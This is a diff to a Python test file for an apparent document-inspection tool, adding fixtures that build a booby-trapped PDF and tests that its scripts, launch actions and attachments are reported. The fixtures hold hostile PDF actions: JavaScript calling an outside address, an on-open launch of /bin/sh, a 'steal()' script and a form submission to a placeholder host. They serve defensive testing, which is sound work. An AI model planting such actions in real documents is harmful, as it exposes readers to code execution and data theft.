@@ -6,6 +6,7 @@ What stands elsewhere: pages and actions of PDF files (preview/), pictures (gui/
 
 import itertools
 import logging
+import random
 import threading
 from dataclasses import asdict
 from io import BytesIO
@@ -13,6 +14,8 @@ from pathlib import Path
 from zipfile import ZIP_DEFLATED, ZipFile
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from tests.core.intake.test_evidence import REPORT, pdf
 from workbench.core import evidence
@@ -110,15 +113,58 @@ def test_a_drawing_with_a_script_and_an_entity_is_shown_as_the_text_that_it_is(
     assert "the secret" not in str((shown, inside(drawing.encode(), "a.svg")))
 
 
-def test_a_pdf_says_what_it_would_run_and_what_is_attached() -> None:
-    names = (
-        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) >>] >> "
-        b"/EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << >> >>] >> >> "
-        b"/OpenAction << /S /Launch /F (/bin/sh) >> "
-    )
-    data = pdf(REPORT, "Trap").replace(b"/Type /Catalog ", b"/Type /Catalog " + names)
-    facts = dict(inside(data, "trap.pdf")["facts"])
-    assert (facts["title"], facts["scripts"], facts["attached files"]) == ("Trap", "1", "1")
+TRAP = (
+    b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) >>] >> "
+    b"/EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << >> >>] >> >> "
+    b"/OpenAction << /S /Launch /F (/bin/sh) /Next [<< /S /JavaScript /JS (steal\\(\\)) >>] >> "
+    b"/AA << /WC << /S /SubmitForm /F (http://192.0.2.1/) >> >> "
+)
+MARKS = (
+    b"/AA << /O << /S /JavaScript /JS (steal\\(\\)) >> >> /Annots [<< /Subtype /Link /A << /S /URI /URI (http://192.0.2.1/) >> "
+    b"/AA << /E << /S /GoToR /F (other.pdf) >> >> >> << /Subtype /FileAttachment /FS << /F (y.exe) /EF << >> >> >>] "
+)
+
+
+def trap(marks: bytes = MARKS) -> bytes:
+    made = pdf(REPORT, "Trap").replace(b"/Type /Catalog ", b"/Type /Catalog " + TRAP)
+    return made.replace(b"/Type /Page ", b"/Type /Page " + marks)
+
+
+def test_a_pdf_says_what_it_would_do_and_what_is_attached() -> None:
+    pages = trap().count(MARKS)
+    assert {**dict(inside(trap(), "trap.pdf")["facts"]), "pages": ""} == {
+        "title": "Trap",
+        "author": "Ana Ruiz",
+        "pages": "",
+        "when opened": "Launch",
+        "scripts": str(2 + pages),
+        "programs to start": "1",
+        "forms to send": "1",
+        "addresses": str(pages),
+        "links to other files": str(pages),
+        "attached files": str(1 + pages),
+    }
+    quiet = dict(inside(pdf(REPORT, "Calm"), "calm.pdf")["facts"])
+    assert quiet.keys() == {"title", "author", "pages"}
+
+
+def test_actions_that_lead_in_circles_or_nowhere_are_counted_once() -> None:
+    circle = b"/Annots [1 0 R 99 0 R << /A << /S /URI /Next 1 0 R >> /Parent 1 0 R >> null 7] "
+    facts = dict(inside(trap(circle), "trap.pdf")["facts"])
+    assert (facts["scripts"], facts["programs to start"]) == ("2", "1")
+
+
+@settings(max_examples=50)
+@given(st.integers(0, 10**6))
+def test_a_damaged_pdf_says_what_is_left_of_it_or_that_it_cannot_be_read(seed: int) -> None:
+    chance, data = random.Random(seed), bytearray(trap())
+    for _change in range(chance.randrange(1, 30)):
+        data[chance.randrange(5, len(data))] = chance.choice(b"<>[]()/ 0R\n9")
+    for _cut in range(chance.randrange(3)):
+        at = chance.randrange(5, len(data))
+        del data[at : at + 40]
+    found = inside(bytes(data), "trap.pdf")
+    assert found["note"] or dict(found["facts"])["pages"]
 
 
 def test_an_e_mail_nested_a_thousand_deep_says_who_sent_it_and_is_not_unfolded() -> None:
